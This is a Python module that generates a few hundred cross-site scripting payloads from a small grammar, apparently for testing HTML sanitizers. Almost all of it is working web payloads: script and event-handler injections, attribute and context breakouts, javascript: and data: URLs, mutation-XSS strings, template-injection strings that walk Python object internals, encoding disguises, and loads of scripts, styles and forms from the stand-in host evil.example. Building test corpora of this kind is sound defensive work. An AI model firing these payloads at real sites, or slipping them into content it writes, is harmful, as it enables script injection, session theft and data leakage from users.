"""Scripts that want to run, made from a small grammar. Each calls `ran` with its number or fetches from evil.example.

A payload is a way out of where it stands, and something that would run there. Where both are lists, every pair is made.
"""

import base64
from collections.abc import Iterator
from itertools import product
from typing import NamedTuple

EVIL = "//evil.example"


class Payload(NamedTuple):
    """One of them: its family, and its words with RAN for the call."""

    family: str
    words: str

    def number(self, number: int) -> str:
        """The words with a call that tells which payload it was."""
        coded = base64.b64encode(f"<script>ran({number})</script>".encode()).decode()
        return self.words.replace("RAN", f"ran({number})").replace("CODED", coded)


# Elements that run something by themselves once they are there.
ELEMENTS = [
    "<script>RAN</script>", "<ScRiPt>RAN</sCrIpT >", "<script/x>RAN</script\n>", "<script\n>RAN</script/>",
    f"<script src={EVIL}/a.js></script>", "<script src=data:text/javascript,RAN></script>",
    "<script type=module>RAN</script>", "<svg><script>RAN</script></svg>", "<svg><script href=data:,RAN />",
    "<math><script>RAN</script></math>", "<<script>script>RAN</script>", "<scr<script>ipt>RAN</scr</script>ipt>",
    "<script>/*\n*/RAN//</script>",
]  # fmt: skip
HANDLERS = [
    "img src=x onerror", "img srcset=x onerror", "image src=x onerror", "svg onload", "svg/onload", "body onload",
    "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus",
    "details open ontoggle", "video src=x onerror", "audio src=x onerror", "video><source onerror",
    "object data=x onerror", "iframe onload", "style onload", "link rel=stylesheet href=x onerror",
    "embed src=x onerror", "marquee onstart", "a tabindex=1 autofocus onfocus", "x contenteditable autofocus onfocus",
    "p style=animation:a onanimationstart", "svg><animate attributeName=x dur=1s onbegin",
    "svg><set attributeName=x onbegin", "script src=x onerror", "input type=image src=x onerror", "dialog open onfocus",
    "track onerror", "frameset onload", "meter onmouseover",
]  # fmt: skip
WRITTEN = [
    "<{}=RAN>", '<{}="RAN" x>', "<{}\n=\t'RAN'//>", "<{}=&Tab;RAN&#59;>",
]  # fmt: skip
OUT = [
    '">', "'>", "`>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</noscript>", "</select>",
    "</table>", "</svg>", "</math>", "</template>", "</iframe>", "</xmp>", "</option></datalist>", "</p></details>",
    "?>",
]  # fmt: skip
IN_ATTRIBUTES = [
    '" autofocus onfocus=RAN x="', "' autofocus onfocus=RAN x='", '" onmouseover="RAN', "x onerror=RAN ",
    '"/onload="RAN"/x="', '" style="animation:a" onanimationstart="RAN', "&quot; autofocus onfocus=RAN x=&quot;",
    '"\nautofocus\nonfocus\n=\nRAN\n', '" formaction="javascript:RAN', '" srcdoc="<script>RAN</script>',
    '" accesskey="x" onclick="RAN', "\\\" onfocus=RAN \\\"",
]  # fmt: skip
ADDRESSES = [
    "javascript:RAN", "JaVaScRiPt:RAN", " javascript:RAN", "java\tscript:RAN", "java\nscript:RAN", "\x01javascript:RAN",
    "javascript&colon;RAN", "javascript&#58;RAN", "&#106;avascript:RAN", "javascript://%0aRAN", "javascript:/*\n*/RAN",
    "data:text/html,<script>RAN</script>", "data:text/html;base64,CODED", "DATA:image/svg+xml,<svg onload=RAN>",
    "vbscript:RAN", "feed:javascript:RAN", "view-source:javascript:RAN", f"http:{EVIL}/", f"{EVIL}/x.js",
    "\\\\evil.example\\x",
]  # fmt: skip
LINKS = [
    "{}", '<a href="{}">x</a>', "<a xlink:href='{}'>x</a>", '<iframe src="{}">',
    '<form action="{}"><input type=submit>',
]  # fmt: skip
STYLES = [
    f"<style>@import'{EVIL}/a.css'</style>", f"<style>*{{background:url({EVIL}/a)}}</style>",
    "<p style=width:expression(RAN)>", f"<p style=\"background:url('{EVIL}/a')\">",
    f"<link rel=stylesheet href={EVIL}/a.css>", "}</style><script>RAN</script>",
    f"*{{color:red;background:url({EVIL}/a)}}", "<p style=-moz-binding:url(javascript:RAN)>",
    "<style><script>RAN</script></style>", f"<link rel=prefetch href={EVIL}/a>",
    "<style>@keyframes a{}</style><p style=animation:a onanimationend=RAN>",
]  # fmt: skip
LOADING = [
    f"<img src={EVIL}/a.png>", f"<base href={EVIL}/>", f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<iframe src={EVIL}></iframe>", f"<object data={EVIL}></object>", f"<video poster={EVIL}/a>",
    "<svg><image href=x onload=RAN>", f"<svg><use href={EVIL}/a#x></svg>", f"<input type=image src={EVIL}/a>",
    f"<picture><source srcset={EVIL}/a><img></picture>", f"<embed src={EVIL}/a>",
    f"<form id=f action={EVIL}></form><button form=f autofocus>x", f"<link rel=manifest href={EVIL}/a>",
    "<iframe srcdoc='<script>parent.RAN</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.RAN&gt;'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<a href={EVIL} ping={EVIL}/p id=location>x</a>",
]  # fmt: skip
# Read once by a cleaner and once more by a browser, these would not be the same.
MUTATING = [
    '<noscript><p title="</noscript><img src=x onerror=RAN>">',
    "<svg><style><img title='</style><img src=x onerror=RAN>'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RAN>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RAN>',
    '<svg></p><style><a title="</style><img src=x onerror=RAN>">', "<listing>&lt;img src=x onerror=RAN&gt;</listing>",
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=RAN>">',
    "<svg><foreignObject><style><img src=x onerror=RAN></style></foreignObject>",
    "<xmp><p title='</xmp><img src=x onerror=RAN>'>",
    "<template><style></template><img title='</style><img src=x onerror=RAN>'>",
    "<select><svg></select><img src=x onerror=RAN>", "<table><td><svg><desc><td></desc><img src=x onerror=RAN>",
    "<title><a title='</title><img src=x onerror=RAN>'>", "<svg><![CDATA[><img src=x onerror=RAN>]]>",
    "<!--><img src=x onerror=RAN>-->", "<!-- --!><img src=x onerror=RAN> -->",
    "<textarea><p title='</textarea><img src=x onerror=RAN>'>", "<iframe><p title='</iframe><img src=x onerror=RAN>'>",
    "<noembed><p title='</noembed><img src=x onerror=RAN>'>", "<plaintext><img src=x onerror=RAN>",
    "<a><svg><tr><input></a><img src=x onerror=RAN>", "<p id='<b>'><svg><p title='</svg><img src=x onerror=RAN>'>",
    "<math><mi//xlink:href='data:x,<script>RAN</script>'>", "<b><p><b><p><img src=x onerror=RAN></b>",
    "<details/open/ontoggle=RAN>", "<style></style\n><img src=x onerror=RAN>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RAN</x:script>",
]  # fmt: skip
TEMPLATES = [
    "{{ RAN }}", "{% set x = 1 %}RAN", "${RAN}", "#{RAN}", "<%= RAN %>", "{{constructor.constructor('RAN')()}}",
    "[[RAN]]", "{{''.__class__.__mro__[1].__subclasses__()}}", "%(RAN)s %s", "{0.__class__}",
    "{{ '<script>RAN</script>'|safe }}", "{%raw%}<script>RAN</script>{%endraw%}",
    "{{x|attr('__init__')}}<img src=x onerror=RAN>", "@(RAN)", "*{RAN}",
]  # fmt: skip
DISGUISES = [
    "&lt;script&gt;RAN&lt;/script&gt;", "&amp;lt;script&amp;gt;RAN", "%3Cscript%3ERAN%3C/script%3E",
    "\\u003cscript\\u003eRAN", "\\x3cimg src=x onerror=RAN\\x3e", "+ADw-script+AD4-RAN+ADw-/script+AD4-",
    "＜script＞RAN＜/script＞", "﹤img src=x onerror=RAN﹥", "<scr\x01ipt>RAN</script>", "<\u200bscript>RAN</script>",
    "\u202e>tpircs<RAN\u202c<img src=x onerror=RAN>", "<ſcript>RAN</ſcript>", "<\u0130mg src=x onerror=RAN>",
    "‹script›RAN‹/script›", "<img\u00a0src=x\u00a0onerror=RAN>", "<img/\x0bsrc=x/onerror=RAN>",
    "&#60;img src=x onerror=RAN&#62;", "&LT;img src=x onerror=RAN&GT;", "&#x3c;script>RAN</script>",
    "<img src=x onerror=&#114;an(1)>", "\u2028<script>RAN</script>\u2029", "\ufeff<script>RAN</script>",
    "¼script¾RAN¼/script¾", "<img src=x one\u0072ror=RAN>",
]  # fmt: skip
WRITING = [
    "[x](javascript:RAN)", "![x](x onerror=RAN)", '[x](x "onmouseover=RAN)', "<javascript:RAN>",
    "`<img src=x onerror=RAN>`", "[x]: javascript:RAN", "![x](data:text/html,<script>RAN</script>)",
    "**<img src=x onerror=RAN>**", "> <script>RAN</script>",
]  # fmt: skip
QUOTED = [
    "</script><script>RAN</script>", '";RAN;//', "';RAN;//", "\\';RAN;//", "'-RAN-'", '"-RAN-"', "`-RAN-`",
    "\\\n;RAN//", "<!--<script>", "]}</script><img src=x onerror=RAN>", "\u2028RAN\u2029",
    '{"__proto__":{"x":"<img src=x onerror=RAN>"}}', '"}]}; RAN; [{"a":"', "*/RAN/*",
    "x\r\nContent-Type: text/html\r\n\r\n<script>RAN</script>", "%0d%0a%0d%0a<script>RAN</script>",
]  # fmt: skip


def payloads() -> list[Payload]:
    """All of them, the same ones each time, no two alike."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[Payload]:
    """Families one after the other in turns, so that any run of a few holds several."""
    families = {
        "elements": ELEMENTS,
        "handlers": [way.format(handler) for handler, way in product(HANDLERS, WRITTEN)],
        "ways out": [way + ELEMENTS[0] for way in OUT] + [f"{way}<img src=x onerror=RAN>" for way in OUT],
        "attributes": IN_ATTRIBUTES,
        "addresses": [link.format(one) for one, link in product(ADDRESSES, LINKS)],
        "styles": STYLES,
        "loading": LOADING,
        "mutating": MUTATING,
        "templates": TEMPLATES,
        "disguises": DISGUISES,
        "writing": WRITING,
        "quoted": QUOTED,
    }
    most = max(len(some) for some in families.values())
    for number in range(most):
        for family, some in families.items():
            if number < len(some):
                yield Payload(family, some[number])
